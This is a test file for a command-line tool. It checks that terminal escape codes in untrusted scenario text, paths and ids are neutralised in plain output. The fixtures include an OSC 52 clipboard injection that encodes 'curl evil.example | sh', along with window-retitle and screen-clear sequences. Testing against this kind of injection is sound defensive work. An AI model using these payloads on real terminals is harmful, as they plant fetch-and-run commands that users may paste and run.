// Text from a scenario file or the command line never reaches a terminal as
// escape codes through the plain outputs; --json keeps it exact.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'gt-text-'));
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const RETITLE = '\x1b]0;owned\x07';
const CLEAR = '\x1b[2J';
const file = join(dir, 'evil.yaml');
// YAML's double-quoted "\e" and "\a" are ESC and BEL.
writeFileSync(
  file,
  `title: "Sums\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a"
description: "Read me\\e[2J"
inputs:
  a: 3
  b: -5
nodes:
  z: a + b
notes:
  z: "a note\\e]0;owned\\a"
`,
);

/** Any C0 control but newline, DEL or a C1 control: what a terminal would act on. */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;

describe('untrusted text in the plain outputs', () => {
  it('show: the title, description and note with their escape codes made visible', async () => {
    const { code, stdout } = await runCli(['show', file]);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain('Sums␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G');
    expect(stdout).toContain('Read me␛[2J');
    expect(stdout).toContain('a note␛]0;owned^G');
  });

  it('show --json keeps the exact text (JSON escapes it)', async () => {
    const { stdout } = await runCli(['show', file, '--json']);
    expect(stdout).not.toMatch(RAW_CONTROL);
    const doc = JSON.parse(stdout) as { title: string; steps: { text: string; lines: string[] }[] };
    expect(doc.title).toBe(`Sums${CLIPBOARD}`);
    expect(doc.steps.flatMap((s) => s.lines)).toContain(`Read me${CLEAR}`);
    expect(doc.steps.flatMap((s) => s.lines)).toContain(`a note${RETITLE}`);
  });

  it('a path or an id with escape codes in an error message or in check', async () => {
    const path = join(dir, `x${RETITLE}.yaml`);
    for (const args of [
      ['check', path],
      ['show', path],
      ['show', `id${CLEAR}`],
      ['graph', `id${CLEAR}`],
      ['list', `extra${CLEAR}`],
      [`--opt${CLEAR}`],
    ]) {
      const { code, stdout, stderr } = await runCli(args);
      expect(code, args.join(' ')).toBe(2);
      expect(stdout + stderr, args.join(' ')).not.toMatch(RAW_CONTROL);
      expect(stderr, args.join(' ')).toMatch(/␛/);
    }
    writeFileSync(path, 'title: t\ninputs:\n  a: 1\nnodes:\n  z: a * 2\n');
    const { stdout } = await runCli(['check', path]);
    expect(stdout).toBe(`ok ${join(dir, 'x␛]0;owned^G.yaml')}\n`);
  });
});
